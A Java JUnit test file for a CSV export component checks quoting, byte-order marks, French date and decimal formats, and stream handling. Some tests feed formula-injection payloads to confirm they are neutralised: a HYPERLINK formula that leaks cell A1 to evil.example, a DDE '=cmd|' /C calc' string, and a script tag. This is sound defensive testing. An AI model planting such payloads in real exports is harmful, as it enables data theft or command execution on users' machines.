package org.spplus.plugin.experiences.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.spplus.plugin.experiences.export.ExportTestSupport.columns;
import static org.spplus.plugin.experiences.export.ExportTestSupport.csvText;
import static org.spplus.plugin.experiences.export.ExportTestSupport.export;
import static org.spplus.plugin.experiences.export.ExportTestSupport.parseCsv;

import java.io.IOException;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.List;

import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.spplus.plugin.experiences.export.ExportTestSupport.TrackingOutputStream;

class CsvExportTest {

    enum Channel { WEB, GUICHET }

    @Test
    void headerAndRowsReadBackWithCommonsCsv() throws IOException {
        byte[] csv = export(ExportFormat.CSV, columns("id", "service", "canal", "note"), ExportOptions.defaults(),
                new Object[] {1L, "Caisse d'allocations familiales", Channel.WEB, 4},
                new Object[] {2L, "Préfecture de l'Hérault", Channel.GUICHET, null});

        List<CSVRecord> records = parseCsv(csv, ';');
        assertThat(records).hasSize(3);
        assertThat(records.get(0).values()).containsExactly("id", "service", "canal", "note");
        assertThat(records.get(1).values()).containsExactly("1", "Caisse d'allocations familiales", "WEB", "4");
        assertThat(records.get(2).values()).containsExactly("2", "Préfecture de l'Hérault", "GUICHET", "");
    }

    @Test
    void startsWithAByteOrderMarkAndEndsLinesWithCrLf() throws IOException {
        byte[] csv = export(ExportFormat.CSV, columns("a", "b"), ExportOptions.defaults(), new Object[] {"x", "y"});

        assertThat(csv).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(csvText(csv)).isEqualTo("a;b\r\nx;y\r\n");
    }

    @Test
    void theByteOrderMarkCanBeLeftOut() throws IOException {
        byte[] csv = export(ExportFormat.CSV, columns("a"), ExportOptions.defaults().withByteOrderMark(false),
                new Object[] {"x"});

        assertThat(csv).containsExactly("a\r\nx\r\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
    }

    @Test
    void semicolonModeQuotesSemicolonsQuotesAndLineBreaks() throws IOException {
        String[] row = {"a;b", "dit \"bonjour\"", "ligne 1\nligne 2", "a,b"};
        byte[] csv = export(ExportFormat.CSV, columns("c1", "c2", "c3", "c4"), ExportOptions.defaults(), row);

        assertThat(csvText(csv)).endsWith("\"a;b\";\"dit \"\"bonjour\"\"\";\"ligne 1\nligne 2\";a,b\r\n");
        assertThat(parseCsv(csv, ';').get(1).values()).containsExactly(row);
    }

    @Test
    void commaModeForOpenData() throws IOException {
        Object[] row = {"a;b", "a,b", 4.5};
        byte[] csv = export(ExportFormat.CSV, columns("c1", "c2", "c3"), ExportOptions.openData(), row);

        assertThat(csvText(csv)).isEqualTo("c1,c2,c3\r\na;b,\"a,b\",4.5\r\n");
        assertThat(parseCsv(csv, ',').get(1).values()).containsExactly("a;b", "a,b", "4.5");
    }

    @Test
    void isoDatesAndPlainValuesByDefault() throws IOException {
        byte[] csv = export(ExportFormat.CSV, columns("jour", "moment", "instant", "publié", "note"),
                ExportOptions.defaults(),
                new Object[] {LocalDate.of(2024, 3, 5), LocalDateTime.of(2024, 3, 5, 14, 30, 15, 123_000_000),
                        OffsetDateTime.of(2024, 3, 5, 13, 30, 15, 0, ZoneOffset.UTC), true, 4.5});

        assertThat(parseCsv(csv, ';').get(1).values()).containsExactly("2024-03-05", "2024-03-05T14:30:15",
                "2024-03-05T14:30:15+01:00", "true", "4.5");
    }

    @Test
    void frenchSpreadsheetModeWritesFrenchDatesBooleansAndDecimals() throws IOException {
        byte[] csv = export(ExportFormat.CSV, columns("jour", "moment", "instant", "publié", "répondu", "note"),
                ExportOptions.frenchSpreadsheet(),
                new Object[] {LocalDate.of(2024, 3, 5), LocalDateTime.of(2024, 3, 5, 14, 30, 15),
                        OffsetDateTime.of(2024, 7, 5, 12, 0, 0, 0, ZoneOffset.UTC), true, false, 4.5});

        assertThat(csvText(csv)).endsWith("05/03/2024;05/03/2024 14:30:15;05/07/2024 14:00:00;oui;non;4,5\r\n");
    }

    @Test
    void numbersAreWrittenUnformatted() throws IOException {
        byte[] csv = export(ExportFormat.CSV, columns("i", "l", "big", "d", "e", "f", "nan"),
                ExportOptions.defaults(),
                new Object[] {1234567, 9_007_199_254_740_993L, new BigDecimal("1234.50"), 1.0e10, 0.1, 0.1f,
                        Double.NaN});

        assertThat(parseCsv(csv, ';').get(1).values())
                .containsExactly("1234567", "9007199254740993", "1234.50", "10000000000", "0.1", "0.1", "");
    }

    @Test
    void formulasInTextAreNeutralisedButNegativeNumbersStayNumbers() throws IOException {
        String hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"clic\")";
        byte[] csv = export(ExportFormat.CSV, columns("c1", "c2", "c3", "c4", "c5", "c6"),
                ExportOptions.defaults(), new Object[] {hyperlink, "+1", "-2", "@SUM(A1:A2)", -2, -2.5});

        assertThat(parseCsv(csv, ';').get(1).values())
                .containsExactly("'" + hyperlink, "'+1", "'-2", "'@SUM(A1:A2)", "-2", "-2.5");
        assertThat(csvText(csv)).endsWith(";-2;-2.5\r\n");
    }

    @Test
    void headersAreNeutralisedToo() throws IOException {
        byte[] csv = export(ExportFormat.CSV, columns("=cmd|' /C calc'!A0"), ExportOptions.defaults());

        assertThat(parseCsv(csv, ';').get(0).get(0)).isEqualTo("'=cmd|' /C calc'!A0");
    }

    @Test
    void htmlIsKeptLiterallyAndControlCharactersRemoved() throws IOException {
        byte[] csv = export(ExportFormat.CSV, columns("texte", "brut"), ExportOptions.defaults(),
                new Object[] {"<script>alert('x')</script>", "a\u0000b\u0007c\td"});

        assertThat(parseCsv(csv, ';').get(1).values()).containsExactly("<script>alert('x')</script>", "abc\td");
    }

    @Test
    void theCallersStreamIsFlushedButNotClosed() throws IOException {
        TrackingOutputStream out = new TrackingOutputStream();
        try (RowSink<Object[]> sink = TabularWriter.open(ExportFormat.CSV, out, columns("a"),
                ExportOptions.defaults())) {
            sink.write(new Object[] {"x"});
        }

        assertThat(out.flushed).isTrue();
        assertThat(out.closed).isFalse();
        assertThat(csvText(out.toByteArray())).isEqualTo("a\r\nx\r\n");
    }
}
